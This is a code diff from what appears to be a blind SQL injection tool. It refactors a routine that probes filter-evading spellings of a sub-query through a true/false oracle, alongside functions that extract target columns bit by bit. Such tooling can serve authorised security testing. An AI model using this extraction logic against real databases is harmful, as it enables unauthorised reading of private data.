@@ -1,22 +1,11 @@
 #include "core/attack/loot.h"
 
 #include "core/attack/reader.h"
-#include "core/attack/spelling.h"
 
 namespace parapet::attack {
 namespace {
 
 constexpr std::size_t kLongestValue = 64;  // characters read of one value
-
-// How sub-queries get through, if at all.
-std::optional<Spelling> find_spelling(Oracle const& oracle) {
-    for (Spelling const& spelling : spellings()) {
-        std::string const one = spelling.write("(SELECT max(41) FROM (SELECT 1))");
-        if (oracle.ask(oracle.greater(one, "40")) && !oracle.ask(oracle.greater(one, "42")))
-            return spelling;
-    }
-    return std::nullopt;
-}
 
 bool readable(Oracle const& oracle, std::string const& expression) {
     std::string const length = "length(" + expression + ")";
@@ -35,7 +24,8 @@ bool take(Oracle const& oracle, std::string const& expression, std::string const
 
 void take_wanted(Oracle const& oracle) {
     std::vector<Column> const wanted = wanted_columns(oracle.entry().target().surface());
-    std::optional<Spelling> const spelling = find_spelling(oracle);
+    std::optional<Spelling> const spelling =
+        find_spelling(oracle, "(SELECT max(41) FROM (SELECT 1))");
     for (Column const& each : wanted) {
         // Without SELECT only the statement's own columns are in reach.
         std::string const expression =
@@ -46,6 +36,15 @@ void take_wanted(Oracle const& oracle) {
 }
 
 }  // namespace
+
+std::optional<Spelling> find_spelling(Oracle const& oracle, std::string_view expression) {
+    for (Spelling const& spelling : spellings()) {
+        std::string const spelled = spelling.write(expression);
+        if (oracle.ask(oracle.greater(spelled, "40")) && !oracle.ask(oracle.greater(spelled, "41")))
+            return spelling;
+    }
+    return std::nullopt;
+}
 
 bool loot_by_bits(Oracle const& oracle) {
     Target& target = oracle.entry().target();
